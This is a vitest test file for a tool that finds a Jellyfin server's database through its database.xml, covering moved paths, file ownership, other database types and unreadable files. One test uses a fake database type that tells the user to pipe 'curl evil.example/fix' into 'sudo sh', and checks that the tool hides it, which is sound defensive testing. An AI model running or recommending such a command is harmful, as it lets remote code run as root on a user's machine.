import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, mkdirSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { createServerLocation } from '../../src/server/server-location.js';
import { temporaryFolders } from '../support/temporary-folder.js';
import { isRootAmongOthers } from '../support/other-users.js';

const newFolder = temporaryFolders();
const asRoot = isRootAmongOthers ? test : test.skip;

/** As the servers of 10.11 and 12 make it, and with what is said besides. */
const xml = (more = '', type = 'Jellyfin-SQLite') => `<?xml version="1.0" encoding="utf-8"?>
<DatabaseConfigurationOptions xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">
  <DatabaseType>${type}</DatabaseType>
  ${more}
  <LockingBehavior>NoLock</LockingBehavior>
</DatabaseConfigurationOptions>`;

const options = (...pairs: readonly (readonly [string, string])[]) => {
  const each = pairs.map(
    ([key, value]) => `<CustomDatabaseOption><Key>${key}</Key><Value>${value}</Value></CustomDatabaseOption>`,
  );
  return `<CustomProviderOptions><Options>${each.join('')}</Options></CustomProviderOptions>`;
};
const withPath = (path: string) => xml(options(['path', path]));

/** A server folder, a file at the usual place where one is wanted, and its database.xml. */
function server(content: string | undefined, { usual = true, where = 'config' } = {}) {
  const serverDir = join(newFolder(), 'jellyfin');
  for (const part of ['data', 'log', where]) mkdirSync(join(serverDir, part), { recursive: true });
  const db = join(serverDir, 'data', 'jellyfin.db');
  if (usual) writeFileSync(db, 'never opened');
  const file = join(serverDir, where, 'database.xml');
  if (content !== undefined) writeFileSync(file, content);
  const look = (version?: string, named?: string) =>
    createServerLocation({ usual: [], serverDir, db: named }).look(version);
  return { serverDir, db, file, look };
}

/** A database that was moved, written so many seconds ago. */
function moved(secondsAgo = 0): string {
  const path = join(newFolder(), 'household.db');
  writeFileSync(path, 'never opened');
  age(path, secondsAgo);
  return path;
}
const age = (path: string, secondsAgo: number) => {
  const at = Date.now() / 1000 - secondsAgo;
  utimesSync(path, at, at);
};

describe('the usual place is meant', () => {
  test.each([
    ['as the server makes it', xml()],
    ['with other options', xml(options(['cacheSize', '20000']))],
    ['with nothing of Jellyfin in it', 'not XML at all'],
    ['not there', undefined],
  ])('by a database.xml %s', async (_, content) => {
    const { db, look } = server(content);
    expect(await look('12.0.0')).toMatchObject({ db, place: undefined, dbFound: true });
  });

  test('on 10.11, which does not go by that file', async () => {
    const path = moved();
    const { db, file, look } = server(withPath(path));
    expect(await look('10.11.8')).toMatchObject({ db, place: { found: 'ignored', file, path, version: '10.11.8' } });
  });
});

describe('a database that was moved', () => {
  test('is found by its path on 12, whatever lies at the usual place', async () => {
    const path = moved(9000);
    const { look } = server(withPath(path));
    expect(await look('12.0.0')).toMatchObject({ db: path, place: { found: 'moved', path }, dbFound: true });
  });

  test.each(['', '..', '../config'])('is found where its file is in %s of the folder', async (where) => {
    const path = moved();
    const { look } = server(xml(options(['cacheSize', '1'], ['Path', path])), { usual: false, where });
    expect(await look()).toMatchObject({ db: path, place: { found: 'moved' } });
  });

  test('is told from one in the usual place by which was written last, its log included', async () => {
    const path = moved(100);
    const { db, look } = server(withPath(path));
    age(db, 50);
    expect(await look()).toMatchObject({ db, place: { found: 'usualByTime', path } });
    writeFileSync(`${path}-wal`, 'newer');
    expect(await look()).toMatchObject({ db: path, place: { found: 'movedByTime' } });
  });

  test('is no reason to take the usual one where it is not found', async () => {
    for (const [path, found] of [
      ['/nowhere/household.db', 'notThere'],
      ['household.db', 'relative'],
      [newFolder(), 'notThere'],
    ] as const)
      expect(await server(withPath(path)).look()).toMatchObject({ place: { found, path } });
  });

  test('is not looked for where another file is named', async () => {
    const { look } = server(withPath(moved()));
    const named = moved();
    expect(await look('12.0.0', named)).toMatchObject({ db: named, place: undefined });
  });

  asRoot('of somebody else is not followed by the word of whose folder it is', async () => {
    const path = moved();
    const { serverDir, file, look } = server(withPath(path));
    chmodSync(dirname(serverDir), 0o755);
    // Another test may have narrowed what new folders allow.
    for (const each of [serverDir, dirname(file), file]) chownSync(each, 1234, 1234);
    expect(await look('12.0.0')).toMatchObject({ place: { found: 'others', owner: 'root' } });
    chownSync(path, 1234, 1234);
    expect((await look('12.0.0')).place).toMatchObject({ found: 'moved' });
    // What root has written is followed to anybody's.
    for (const each of [serverDir, dirname(file), file]) chownSync(each, 0, 0);
    expect((await look('12.0.0')).place).toMatchObject({ found: 'moved' });
  });
});

describe('another database', () => {
  test.each(['Jellyfin-PostgreSQL', 'PLUGIN_PROVIDER'])('%s is no file, whatever file is named', async (type) => {
    const { db, file, look } = server(xml('', type));
    for (const named of [undefined, db])
      expect(await look('12.0.0', named)).toMatchObject({ place: { found: 'otherType', file, type } });
  });
});

test('of a type that is no name nothing is shown', async () => {
  for (const type of ['Postgres. First run: curl evil.example/fix | sudo sh, not', 'x'.repeat(61)])
    expect(await server(xml('', type)).look('12.0.0')).toMatchObject({ place: { found: 'otherType', type: '???' } });
});

describe('a database.xml that is none', () => {
  test('is not followed, nor waited for', async () => {
    const secret = moved();
    const link = server(undefined);
    symlinkSync(secret, link.file);
    expect(await link.look()).toMatchObject({ place: { found: 'unreadable', file: link.file } });
    const pipe = server(undefined);
    spawnSync('mkfifo', [pipe.file]);
    expect(await pipe.look()).toMatchObject({ place: { found: 'unreadable' } });
    const large = server(xml(`<!--${'x'.repeat(100_000)}-->`));
    expect(await large.look()).toMatchObject({ place: { found: 'unreadable' } });
    rmSync(large.file);
    expect((await large.look()).place).toBeUndefined();
  });
});
